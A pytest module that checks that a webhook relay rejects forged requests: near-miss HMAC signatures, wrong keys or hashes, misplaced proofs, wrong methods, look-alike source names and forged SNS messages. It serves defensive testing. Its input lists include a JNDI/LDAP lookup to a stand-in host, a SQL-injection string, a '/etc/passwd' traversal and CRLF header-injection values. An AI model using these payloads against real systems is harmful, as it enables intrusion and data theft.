"""Forged requests whose proof is almost right, in the wrong place, or made with another source's secret."""

import base64
import hashlib
import hmac
import json
import unicodedata
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from fakes import World
from front_door import GATEWAYS, PLANTED, Gateway, api_gateway_v1, api_gateway_v2, function_url, world_of
from push_relay.core.outcomes import Outcome
from push_relay.core.secret import CachedSecret
from push_relay.core.trust.door import Door
from push_relay.core.trust.signing_secrets import StoredSigningSecrets
from signers import CASES, Case
from sns_sender import NOW, Request

EVERY = pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
#: Cases whose proof is computed from the body with a shared key.
COMPUTED = [
    case for case in CASES if case.covers == "bytes" and case.secret != b"sns" and "v1a" not in case.name
]
ANY_GATEWAY = pytest.mark.parametrize("gateway", GATEWAYS, ids=lambda gateway: gateway.__name__)

type Forge = Callable[[Case], Iterator[Request]]


@pytest.fixture(scope="module")
def worlds(tmp_path_factory: pytest.TempPathFactory) -> dict[str, World]:
    """Return a relay for each case. They are created once."""
    return {case.name: world_of(tmp_path_factory.mktemp("case"), case) for case in CASES}


def assert_rejected(here: World, invocations: Iterator[dict[str, Any]]) -> int:
    """Check that each is answered with a 401, and that nothing is queued. Return their number."""
    here.messages.queued.clear()
    here.sns.confirmed.clear()
    here.witness.receipts.clear()
    answers = [here.receive(invocation) for invocation in invocations]
    assert {answer["statusCode"] for answer in answers} <= {401}
    assert here.witness.outcomes == [Outcome.REJECTED] * len(answers)
    assert not here.messages.queued
    assert not here.sns.confirmed
    return len(answers)


# --- proofs that are almost right ------------------------------------------------------------------------


def _spelt(case: Case, value: bytes) -> Iterator[str]:
    """Yield a hash in each encoding that a scheme might use."""
    right = case.proof.read(case.genuine())
    prefix = next((p for p in ("sha256=", "v1=", "v0=", "v1,", "SIG ") if right.startswith(p)), "")
    for text in (value.hex(), base64.b64encode(value).decode()):
        yield prefix + text


def _hashed(case: Case) -> Iterator[Request]:
    """Use a plain hash instead of an HMAC, or the message as the key."""
    body, secret = case.body, case.secret
    contents = (body, b"", secret, secret + body, body + secret, case.written(NOW).encode() + body)
    for content in contents:
        for hash_name in ("sha256", "sha1", "sha512", "md5"):
            for text in _spelt(case, hashlib.new(hash_name, content).digest()):
                yield case.proof.write(case.genuine(), text)
    for text in _spelt(case, hmac.digest(body, secret, "sha256")):
        yield case.proof.write(case.genuine(), text)


def _nearly_the_secret(case: Case) -> Iterator[Request]:
    """Sign with a slightly wrong copy of the secret."""
    secret = case.secret
    for wrong in (
        secret + b"\n",
        b" " + secret,
        secret[:-1],
        secret.upper(),
        secret.hex().encode(),
        base64.b64encode(secret),
        hashlib.sha256(secret).digest(),
        b"None",
        b"null",
        b"secret",
    ):
        if case.name.startswith("standard") or case.secret == b"sns" or wrong == secret:
            continue
        try:
            yield case.sign(case.body, wrong, case.written(NOW))
        except UnicodeDecodeError:  # a token must be a text
            continue


def _another_hash(case: Case) -> Iterator[Request]:
    """Sign with the right key but another hash function, or send a part of the right signature."""
    if case in COMPUTED:
        right = case.proof.read(case.genuine())
        for hash_name in ("sha1", "sha384", "sha512", "sha3_256", "md5"):
            for text in _spelt(case, hmac.digest(case.secret, case.body, hash_name)):
                yield case.proof.write(case.genuine(), text)
        for text in (right[: len(right) // 2], right[:12], right[:-1], right * 2, right + "\0"):
            yield case.proof.write(case.genuine(), text)


def _words(case: Case) -> Iterator[Request]:
    """Send words that a careless comparison, template, log or query could misinterpret."""
    words = [
        "null",
        "undefined",
        "None",
        "true",
        "0",
        "*",
        "%",
        "' OR '1'='1",
        "${jndi:ldap://evil.example/a}",
    ]
    words += [
        "../../etc/passwd",
        "{{secret}}",
        "\r\nX-Evil: 1",
        "=",
        "==",
        "v1=",
        "sha256=",
        "Basic",
        "[]",
        "{}",
    ]
    for word in words:
        yield case.proof.write(case.genuine(), word)


def _normalised(case: Case) -> Iterator[Request]:
    """Encode the body's text in another normal form of Unicode, or in another charset."""
    if case in COMPUTED:
        text = '{"note": "planted caf\u00e9"}'
        genuine = case.genuine(body=text.encode())
        for other in (
            unicodedata.normalize("NFD", text).encode(),
            text.encode("latin-1"),
            text.encode("utf-16"),
        ):
            yield replace(genuine, body=other)


def _part_of_the_body(case: Case) -> Iterator[Request]:
    """Send the proof of a shorter or a longer body."""
    if case in COMPUTED:
        for signed in (
            b"",
            case.body[:-1],
            case.body + b"\n",
            case.body * 2,
            case.body[: len(case.body) // 2],
        ):
            proof = case.proof.read(case.genuine(body=signed))
            yield case.proof.write(case.genuine(), proof)


def _shown_elsewhere(case: Case) -> Iterator[Request]:
    """Send the right proof under an almost right name, in a cookie, in the query, or in another header."""
    genuine = case.genuine()
    if case.proof.kind == "json":
        return
    bare, value = case.proof.drop(genuine), getattr(genuine, case.proof.kind)[case.proof.name]
    name = case.proof.name
    for wrong in (
        name.replace("-", "_"),
        f"{name} ",
        f" {name}",
        f"x-{name}",
        f"{name}-",
        name + "\0",
        f"{name}:",
    ):
        if wrong != name:
            yield replace(bare, headers={**bare.headers, wrong: value})
    yield replace(bare, headers={**bare.headers, "cookie": f"{name}={value}"})
    yield replace(bare, headers={**bare.headers, "x-original-headers": json.dumps({name: value})})
    if case.proof.kind == "headers":
        yield replace(bare, query={**bare.query, name: value})
    else:
        yield replace(bare, headers={**bare.headers, name: value})


IDEAS: tuple[Forge, ...] = (
    _hashed,
    _nearly_the_secret,
    _another_hash,
    _words,
    _normalised,
    _part_of_the_body,
    _shown_elsewhere,
)


@EVERY
@ANY_GATEWAY
@pytest.mark.parametrize("idea", IDEAS, ids=lambda idea: idea.__name__.strip("_"))
def test_an_almost_right_proof_is_rejected(
    case: Case, gateway: Gateway, idea: Forge, worlds: dict[str, World]
) -> None:
    """Each idea of a forger is tried against every scheme and through every gateway."""
    assert_rejected(worlds[case.name], (gateway(request) for request in idea(case)))


@pytest.mark.parametrize("idea", IDEAS, ids=lambda idea: idea.__name__.strip("_"))
def test_every_idea_produces_requests(idea: Forge) -> None:
    """The test above would pass without any effect for an idea that yields no requests."""
    assert sum(1 for case in CASES for _ in idea(case)) >= 3 * len(COMPUTED) >= 30


# --- malformed invocations, methods and names -----------------------------------------------------------


@EVERY
def test_a_proof_that_is_not_a_text_is_rejected(case: Case, worlds: dict[str, World]) -> None:
    """The invocation is JSON, so the value of a header could have any type."""
    if case.proof.kind == "json":
        return
    field = {"headers": "headers", "query": "queryStringParameters"}[case.proof.kind]
    right = getattr(case.genuine(), case.proof.kind)[case.proof.name]
    invocation = api_gateway_v2(case.genuine())
    junk = (None, True, 7, [], [right], {}, {"value": right}, [[right]])
    changed = (invocation | {field: invocation[field] | {case.proof.name: value}} for value in junk)
    assert assert_rejected(worlds[case.name], changed) == len(junk)
    listed = api_gateway_v1(case.genuine())
    many = "multiValueHeaders" if case.proof.kind == "headers" else "multiValueQueryStringParameters"
    name = next(name for name in listed[many] if name.lower() == case.proof.name)
    empty = (
        listed | {many: listed[many] | {name: value}} for value in ([None], [[right]], [{"a": right}], [])
    )
    assert assert_rejected(worlds[case.name], empty) == 4


@EVERY
@ANY_GATEWAY
@pytest.mark.parametrize("method", ["GET", "HEAD", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "POSTS", ""])
def test_a_genuine_request_with_another_method_is_rejected(
    case: Case, gateway: Gateway, method: str, worlds: dict[str, World]
) -> None:
    """Only POST is accepted, and no header can override the method. The answer is a 405."""
    here = worlds[case.name]
    here.messages.queued.clear()
    genuine = case.genuine()
    overriding = {"x-http-method-override": "POST", "x-method-override": "POST"}
    sent = replace(genuine, headers={**genuine.headers, **overriding})
    assert here.receive(gateway(sent, method=method))["statusCode"] == 405
    assert not here.messages.queued


NAMES = [
    *(
        "Planted",
        "planted%00",
        "planted%2f..%2fother",
        "../planted",
        ".",
        "..",
        ".digest",
        "planted\n",
        " planted",
    ),
    *(
        "planted\u200b",
        "%70lanted",
        "planted;x=1",
        "",
        "planted/",
        "planted/planted",
        "planted\0",
        "pl\u0430nted",
    ),
]


@pytest.mark.parametrize("name", NAMES, ids=ascii)
def test_a_source_is_found_only_by_its_exact_name(name: str, worlds: dict[str, World]) -> None:
    """Another spelling gets a 404. The internal source of the relay's own events cannot be called either."""
    case = CASES[0]
    here = worlds[case.name]
    here.messages.queued.clear()
    for gateway in (api_gateway_v1, api_gateway_v2):
        invocation = gateway(case.genuine()) | {"pathParameters": {"source": name}}
        assert here.receive(invocation)["statusCode"] == 404
    invocation = function_url(case.genuine()) | {"rawPath": f"/webhooks/{name}"}
    invocation["requestContext"]["http"]["path"] = f"/webhooks/{name}"
    assert here.receive(invocation)["statusCode"] == (202 if name == "planted/" else 404)
    assert len(here.messages.queued) == (name == "planted/")


# --- other people's secrets ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "case", [case for case in CASES if case.secret != b"sns"], ids=lambda case: case.name
)
@ANY_GATEWAY
def test_another_source_s_secret_is_rejected(case: Case, gateway: Gateway, tmp_path: Path) -> None:
    """All sources' secrets are stored in one secret by name, but each is valid for its own source only."""
    here = world_of(tmp_path, case)
    text = json.dumps({"other": case.other.decode(), PLANTED: case.secret.decode(), "planted2": "x", "": "y"})
    held = StoredSigningSecrets(CachedSecret(lambda: text, here.clock.now, here.clock.monotonic))
    here.change_door(Door(held, here.sns.certificate))
    assert assert_rejected(here, iter([gateway(case.genuine(secret=case.other))])) == 1
    assert here.receive(gateway(case.genuine()))["statusCode"] == 202


@ANY_GATEWAY
def test_the_raw_delivery_of_sns_is_rejected(gateway: Gateway, worlds: dict[str, World]) -> None:
    """It is not signed, and anyone can write its headers."""
    case = next(case for case in CASES if case.name == "sns-http version 2")
    message = json.loads(case.genuine().body)
    headers = {
        "x-amz-sns-rawdelivery": "true",
        "x-amz-sns-message-type": "Notification",
        "x-amz-sns-topic-arn": message["TopicArn"],
        "x-amz-sns-message-id": message["MessageId"],
    }
    assert_rejected(worlds[case.name], iter([gateway(Request(message["Message"].encode(), headers))]))


@ANY_GATEWAY
def test_a_signed_notification_cannot_be_turned_into_a_confirmation(
    gateway: Gateway, worlds: dict[str, World]
) -> None:
    """The reverse is rejected too. The type is signed, and determines which other fields are signed."""
    case = next(case for case in CASES if case.name == "sns-http version 2")
    message = json.loads(case.genuine().body)
    asked = {"SubscribeURL": "https://sns.eu-west-1.amazonaws.com/?Action=Confirm", "Token": "t"}
    confirmation = next(case for case in CASES if case.name == "sns-http confirmation")
    forged = [
        message | asked | {"Type": "SubscriptionConfirmation"},
        message | asked | {"Type": "UnsubscribeConfirmation"},
        json.loads(confirmation.genuine().body) | {"Type": "Notification"},
        json.loads(confirmation.genuine().body) | {"Type": "UnsubscribeConfirmation"},
    ]
    requests = (gateway(Request(json.dumps(document).encode())) for document in forged)
    assert assert_rejected(worlds[case.name], requests) == len(forged)
